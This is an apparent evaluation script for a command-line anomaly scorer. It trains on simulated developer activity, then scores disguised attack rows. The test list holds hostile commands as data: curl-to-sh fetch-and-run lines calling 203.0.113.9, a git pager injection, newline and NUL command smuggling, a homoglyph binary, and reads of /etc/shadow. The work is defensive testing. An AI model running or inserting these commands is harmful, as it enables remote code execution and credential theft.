import { resolveConfig } from '../../conf/config';
import { Scorer } from '../scorer';
import { DAY, HOUR, START, developerDays, developerRow as row } from './developer-stream';

// Mimicry (docs/scoring.md, "What an attacker can do about it"): 14 days of the developer of
// ./developer-stream.ts with a daily `curl`, rarity and the SVM; then attack rows made to look
// like the routine, each after a routine `git status`. Prints each try's score.
//
//   node dist/scorer/eval/mimicry.js

const TRIES: Array<[string, string, string]> = [
  ['routine git', '/usr/bin/git', 'git status'],
  ['routine curl', '/usr/bin/curl', 'curl -s https://api.corp.example/v1/items'],
  ['curl, new URL under its template', '/usr/bin/curl', 'curl -s http://203.0.113.9/x.sh'],
  ['/tmp/.x/sshd', '/tmp/.x/sshd', 'sshd -D'],
  ['~/.local/bin/git', '/home/alice/.local/bin/git', 'git status'],
  ['exec -a git (payload in /tmp)', '/tmp/.x/payload', 'git status'],
  ['Cyrillic g\u0456t', '/usr/bin/g\u0456t', 'g\u0456t status'],
  ['routine prefix + payload', '/usr/bin/git', 'git status -c core.pager=sh -c "curl http://203.0.113.9/x|sh"'],
  ['routine + 40 padding tokens', '/usr/bin/git', `git status ${Array(40).fill('notes.md').join(' ')}`],
  ['vim, payload as the 30th token', '/usr/bin/vim', `vim ${Array(28).fill('notes.md').join(' ')} +!curl\\ http://203.0.113.9/x|sh`],
  ['newline in the command line', '/usr/bin/git', 'git status\ncurl http://203.0.113.9/x | sh'],
  ['NUL in the command line', '/usr/bin/git', 'git status\u0000curl http://203.0.113.9/x'],
  ['vim /etc/cron.d/evil', '/usr/bin/vim', 'vim /etc/cron.d/evil'],
  ['less /etc/shadow', '/usr/bin/less', 'less /etc/shadow'],
  ['make -f /tmp/.x/Makefile', '/usr/bin/make', 'make -f /tmp/.x/Makefile'],
  ['exactly the routine', '/usr/bin/make', 'make test'],
];

async function main(): Promise<void> {
  const config = resolveConfig({ learning: { min_events: 400, min_days: 3 }, models: { rarity: true, ocsvm: true, lstm: false } }, 'mimicry', {});
  const scorer = await Scorer.open({ config, stateDir: null });
  await developerDays(scorer, 14, { dailyCurl: true });
  const t0 = START + 14 * DAY + 11 * HOUR;
  for (let i = 0; i < TRIES.length; i++) {
    const [name, exe, cmd] = TRIES[i];
    await scorer.scoreRows([row(t0 + i * 300 - 60, '/usr/bin/git', 'git status')]);
    const [s] = await scorer.scoreRows([row(t0 + i * 300, exe, cmd)]);
    console.log(`${name.padEnd(34)} ${s.score?.toFixed(3) ?? 'NULL'} ${s.verdict.padEnd(5)} ${s.model.padEnd(7)} ${s.reasons.slice(0, 110)}`);
  }
}

main().catch((err) => {
  console.error(err);
  process.exit(1);
});
